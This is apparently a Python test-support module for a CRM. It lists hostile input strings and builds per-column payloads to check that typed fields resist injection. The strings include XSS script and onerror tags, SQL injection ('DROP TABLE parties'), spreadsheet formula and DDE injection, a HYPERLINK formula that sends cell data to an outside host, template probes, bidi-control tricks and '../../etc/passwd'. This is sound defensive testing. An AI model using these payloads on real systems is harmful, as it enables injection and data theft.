"""Texts that break what was not built for them (P4, P5), and which text columns of the tables people type or bring in files."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from typing import Any

from sqlalchemy import Column, String
from sqlalchemy.orm import Mapper

from crm.db import Base

#: Texts of at most 80 characters, so that each fits every field that people type names into. Each stays as it is: composed, without blanks
#: around, without controls that are dropped.
NAUGHTY = (
    "<script>alert(1)</script>",
    "</title></textarea></script><script>alert(2)</script>",
    "\"><img src=x onerror=alert(3)>'",
    "' autofocus onfocus='alert(4)",
    "<svg/onload=alert(5)>",
    "<!-- <![CDATA[ ]]> -->",
    "javascript:alert(6)",
    "&lt;b&gt; &amp;amp; &#39; &notin; AT&T",
    "{{ 7*7 }} {% raw %} ${7*7} #{7} <%= 7 %>",
    "%s %d %(name)s {name} {0.__class__} %% \\n \\",
    "'; DROP TABLE parties; --",
    "1' OR '1'='1",
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"here")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "'=1+1",
    "''quoted''",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "x;=1+1",
    "x,=1+1",
    "+41 22 555 01 01",
    "-5.00",
    "- first point",
    "0041 007",
    "1e5",
    "TRUE",
    "null",
    "\u202eevil\u202c end",
    "\u2066isolated\u2069 \u200bzero\u200d width",
    "Z\u0336a\u0334l\u0335g\u0336o\u0327 Nguyễn",
    "مرحبا بالعالم، عَمَّان",
    "中文測試，漢字",
    "👩‍❤️‍👩 🇯🇴 🧪",
    "ﬁne ﬂow ½ ﷺ",
    "w" * 80,
    "../../etc/passwd",
    "\\\\host\\share",
)
#: Texts of several lines, for fields that have them.
LINES = ("first\n=2+2\n<b>third</b>", "- one\n- two\n\n\tthree", "=1+1\n@x")
#: As they are typed -> as they are kept.
CLEANED = {
    "\ttab before": "tab before",
    "  blanks \r\n": "blanks",
    "nul\x00and\x07bell\x1b": "nulandbell",
    "e\u0301": "é",
    "\ufeffmark": "\ufeffmark",
}

#: One text that holds all at once, for walks over every page: it breaks out of texts and attributes, runs, is a formula, a template, a
#: format and an entity. The short one is for columns of less than 60
#: characters.
SIGN = "zqx"
PAYLOAD = f"=1+{SIGN}'\"><img src=zqz onerror=alert(1)>{{{{7*7}}}}%s&lt;"
SHORT = f'={SIGN}"><i onzqz>&lt;'
SCHEME = f"javascript:alert('{SIGN}')//"

#: Text columns that hold no typed text, and why. By name where all columns of that name are meant.
_NOT_TYPED = {
    "one of a list that a constraint or the service knows": (
        "action answer base boundary circle currency direction document_level form kind language level list_name noun on_boundary outcome "
        "rate_policy recovery_basis reporting_currency role scheme side state status theme timezone visibility original_currency "
        "earmarking sector country format files.evidence programme_tags.code codes.code offices.code flows.source plan_links.source plan_requirements.source rate_sheets.source"
    ),
    "made by the application": (
        "reference sha256 stored_as media_type folded_name host token digest token_hash password_hash email_hash address mark wide slug "
        "headings audit_values.field import_changes.field workers.name editions.name versions assets quotes"
    ),
    "the address of a list as the application wrote it": "saved_lists.query",
    "JSON that holds typed texts, planted with them inside": "header settings raw summary content html progress",
    "kept from records as they change: their history, what an import changed, what is searched": (
        "old new search_entries.words party_words audit_entries.actor_name"
    ),
    "an e-mail address, which the service checks": "users.email",
    "no page or file shows it": "sign_ins.browser",
    "only compared: pages say what it means in words of their own": "contribution_type plan_requirements.plan_id",
    "a place's code in the list that the installation brings": "places.code",
}
#: Columns of these names are JSON or kept where they stand in an import or a document, and typed elsewhere.
_TYPED_ALL_THE_SAME = {"programmes.summary", "interactions.summary", "interactions.language"}


def not_typed() -> set[str]:
    """The exceptions, by column or table.column."""
    return {name for names in _NOT_TYPED.values() for name in names.split()}


def typed_columns() -> Iterator[tuple[Mapper[Any], str, Column[Any]]]:
    """(mapper, attribute, column) of every text that people type or bring in files, in an order that does not change."""
    left_out = not_typed()
    for mapper in sorted(Base.registry.mappers, key=lambda mapper: mapper.local_table.name):
        for attribute in mapper.column_attrs:
            column = attribute.columns[0]
            name = f"{mapper.local_table.name}.{column.name}"
            if isinstance(column.type, String) and (name in _TYPED_ALL_THE_SAME or not {name, column.name} & left_out):
                yield mapper, attribute.key, column


def unknown_exceptions() -> set[str]:
    """Exceptions that name no column there is."""
    columns = {(m.local_table.name, c.name) for m in Base.registry.mappers for c in m.local_table.columns}
    known = {name for _table, name in columns} | {f"{table}.{name}" for table, name in columns}
    return (not_typed() | _TYPED_ALL_THE_SAME) - known


def text_for(column: Column[Any], number: int) -> str:
    """The hostile text of a column, told from those of all other columns by its number."""
    if column.name == "website":
        return SCHEME + mark(number)
    longest = getattr(column.type, "length", None) or 1000
    return (PAYLOAD if longest >= 60 else SHORT) + mark(number)


def mark(number: int) -> str:
    """The end of a hostile text: three digits between letters, so that none is part of another."""
    return f"q{number:03}q"


def is_kept(text: str) -> bool:
    """Whether the documented rule leaves a text as it is."""
    return unicodedata.normalize("NFC", text) == text and text == text.strip()
